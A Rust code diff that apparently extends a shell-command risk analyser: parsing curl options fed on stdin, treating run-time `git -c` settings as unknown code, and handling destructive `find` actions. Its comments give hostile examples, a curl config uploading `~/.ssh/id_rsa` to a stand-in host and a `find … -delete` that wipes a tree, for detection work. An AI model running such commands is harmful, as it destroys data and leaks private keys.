@@ -556,9 +556,13 @@ fn find(builder: &mut Builder, command: &Command) {
             _ => break,
         }
     }
-    while let Some(word) =
-        argv.get(at).filter(|w| !w.starts_with('-') && !matches!(w.as_str(), "(" | "!" | ")" | ","))
-    {
+    // A word appended at run time after a start point (`xargs find .`)
+    // may be a primary: it is read with the expression.
+    while let Some(word) = argv.get(at).filter(|w| {
+        !w.starts_with('-')
+            && !matches!(w.as_str(), "(" | "!" | ")" | ",")
+            && (roots.is_empty() || !is_run_time(w))
+    }) {
         roots.push(word.clone());
         at += 1;
     }
@@ -634,9 +638,17 @@ fn find(builder: &mut Builder, command: &Command) {
     }
 }
 
-/// `find` words that select nothing: options, actions, and `-type`.
-const FIND_NON_TESTS: [&str; 20] = [
+/// `find` words that select nothing: options, actions (those that print
+/// to a file too: `find . -fprint list -delete` still deletes the whole
+/// tree), and `-type`.
+const FIND_NON_TESTS: [&str; 26] = [
     "-delete",
+    "-printf",
+    "-fprint",
+    "-fprint0",
+    "-fprintf",
+    "-fls",
+    "-ls",
     "-depth",
     "-d",
     "-maxdepth",
@@ -833,7 +845,7 @@ fn is_unknown_text(text: &str) -> bool {
 /// A fact when a command among `direct` runs what it reads on stdin (a
 /// shell with no script, an interpreter with no code), fed by `via` with
 /// data the action does not show.
-fn runs_unseen_input(builder: &mut Builder, direct: &[usize], via: &str) {
+pub(super) fn runs_unseen_input(builder: &mut Builder, direct: &[usize], via: &str) {
     let runs = direct.iter().map(|&at| builder.get(at)).find(|command| {
         executes_its_input(command)
             && (!SHELLS.contains(&command.program.as_str())
@@ -1001,6 +1013,12 @@ fn git(builder: &mut Builder, command: &Command) {
         match (key.strip_prefix("alias."), value) {
             (Some(name), Some(value)) => aliases.push((name.to_owned(), value.clone())),
             (Some(_), None) => {}
+            // `parallel git -c {} status`: a setting known only when it
+            // runs may be one that runs a program (`core.pager=…`).
+            (None, _) if is_run_time(key) || key.contains('$') => builder.fact(
+                Fact::EvalOfUnknownText,
+                format!("git's setting `{}` is known only when it runs", preview(key)),
+            ),
             (None, value) => {
                 git_config(builder, key, value.as_deref(), git_reaches_network(argv), "git -c")
             }
@@ -1344,7 +1362,43 @@ pub(super) fn stdin_text(builder: &mut Builder, index: usize, text: &str) {
         builder.shell(text, Some(program));
     } else if program == "cat" {
         builder.here_texts.insert(index, text.to_owned());
+    } else if program == "curl" && curl_reads_config_from_stdin(&command.argv) {
+        curl_config(builder, &command, text);
     }
+}
+
+/// `curl -K -` (`--config -`, `--config=-`, `-K/dev/stdin`): curl reads
+/// its options from standard input.
+fn curl_reads_config_from_stdin(argv: &[String]) -> bool {
+    let stdin = |value: &str| matches!(value, "-" | "/dev/stdin");
+    let args = argv.get(1..).unwrap_or_default();
+    options::CURL.parse(args).value("-K").is_some_and(stdin)
+        || args.windows(2).any(|pair| {
+            pair.first().is_some_and(|w| w == "--config") && pair.get(1).is_some_and(|v| stdin(v))
+        })
+        || args.iter().any(|word| word.strip_prefix("--config=").is_some_and(stdin))
+}
+
+/// The options of a curl config file given on stdin, as the command they
+/// make (`url = https://x` and `form = a=@~/.ssh/id_rsa` are `curl --url
+/// https://x --form a=@~/.ssh/id_rsa`): one option a line, its name with
+/// or without dashes, its value after blanks, `=` or `:`, maybe quoted;
+/// `#` starts a comment line.
+fn curl_config(builder: &mut Builder, command: &Command, text: &str) {
+    let mut argv = vec!["curl".to_owned()];
+    for line in text.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
+        let end =
+            line.find(|c: char| c.is_whitespace() || c == '=' || c == ':').unwrap_or(line.len());
+        let (name, rest) = line.split_at(end);
+        argv.push(if name.starts_with('-') { name.to_owned() } else { format!("--{name}") });
+        let value = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '=' || c == ':');
+        if !value.is_empty() {
+            let unquoted =
+                value.strip_prefix('"').and_then(|v| v.strip_suffix('"')).unwrap_or(value);
+            argv.push(unquoted.to_owned());
+        }
+    }
+    builder.command(Command::new(argv, false, command.dynamic_args, Some("curl -K -".to_owned())));
 }
 
 /// Literal text flowing through a pipeline: `echo X | sh`, `printf … |
